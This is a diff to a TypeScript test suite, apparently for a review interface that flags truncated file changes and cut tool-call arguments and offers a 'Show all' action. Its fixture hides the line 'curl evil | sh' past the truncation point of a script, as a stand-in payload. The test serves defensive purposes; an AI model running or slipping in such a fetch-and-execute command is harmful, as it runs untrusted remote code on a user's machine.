@@ -7,13 +7,15 @@ import { traceHref } from '../src/trace';
 
 const HUNDRED = Array.from({ length: 80 }, (_, i) => `+echo ${i}`);
 
-/** A file as the kernel's frame has it, cut after 80 lines (the payload among the rest). */
+/**
+ * A file as the kernel's displayed frame has it, cut after 80 lines (the payload among the
+ * rest): what is shown, and how many lines the kernel holds to show on `all` (`more`).
+ */
 function cutFile(): changes.IFileChange {
   return {
     path: 'run.sh', status: 'new', added: 101, removed: 0, lines: ['@@ -0,0 +1,101 @@', ...HUNDRED],
-    omitted: 21, note: '', content: 'c0ffee', unseen: '21 more lines',
-    full: ['@@ -0,0 +1,101 @@', ...HUNDRED, '+curl evil | sh'], rest: '', runs_code: '',
-    executable: false
+    omitted: 21, note: '', content: 'c0ffee', unseen: '21 more lines', more: 102, rest: '',
+    runs_code: '', executable: false
   };
 }
 
@@ -38,8 +40,19 @@ test('a change with nothing cut is complete; one with a file cut says what and t
   assert.deepEqual(changes.actionsOf(cut), ['all', 'apply', 'unseen', 'discard']);
 });
 
+test("a kernel that sent the whole rendering itself (`full`, before `more`) still offers Show all", () => {
+  const { more: _more, ...file } = cutFile();
+  for (const full of [['@@ -0,0 +1,101 @@', ...HUNDRED, '+curl evil | sh'], '+curl evil | sh\n']) {
+    const change = { files: [{ ...file, full }] };
+    assert.equal(changes.isComplete(change), false);
+    assert.equal(changes.hasMore(change), true);
+    assert.deepEqual(changes.actionsOf(change), ['all', 'apply', 'unseen', 'discard']);
+  }
+  assert.equal(changes.hasMore({ files: [{ ...file, full: [] }] }), false);
+});
+
 test('a change the kernel shows in full but still could not show all of offers no Show all', () => {
-  const rest = { ...cutFile(), full: [], unseen: '3 more lines past what can be shown' };
+  const rest = { ...cutFile(), more: 0, unseen: '3 more lines past what can be shown' };
   const change = { files: [rest] };
   assert.equal(changes.isComplete(change), false);
   assert.equal(changes.hasMore(change), false);
@@ -73,12 +86,15 @@ test('files that run code are named with why, and an executable file is marked, 
 
 test("a call whose arguments were cut is incomplete, and Show all offers the kernel's full text", () => {
   const call = { name: 'post', arguments: 'x'.repeat(2000) + '...', unseen: 'the arguments were cut to 2,003 of 3,000 characters',
-                 full: 'x'.repeat(3000), digest: 'd' };
+                 more: 3000, digest: 'd' };
   const change = { files: [], call };
   assert.equal(changes.isComplete(change), false);
   assert.equal(changes.hasMore(change), true);
+  const { more: _more, ...older } = call; // a kernel before `more` sent the arguments as `full`
+  assert.equal(changes.hasMore({ files: [], call: { ...older, full: 'x'.repeat(3000) } }), true);
+  assert.equal(changes.hasMore({ files: [], call: { ...call, more: 0 } }), false);
   assert.deepEqual(changes.changeWarnings(change), ['Not shown: the arguments were cut to 2,003 of 3,000 characters.']);
-  assert.equal(changes.isComplete({ files: [], call: { ...call, unseen: '', full: '' } }), true);
+  assert.equal(changes.isComplete({ files: [], call: { ...call, unseen: '', more: 0 } }), true);
 });
 
 test('Apply answers y only to a question of a change shown whole; Show all and Apply unseen only to a cut one', () => {
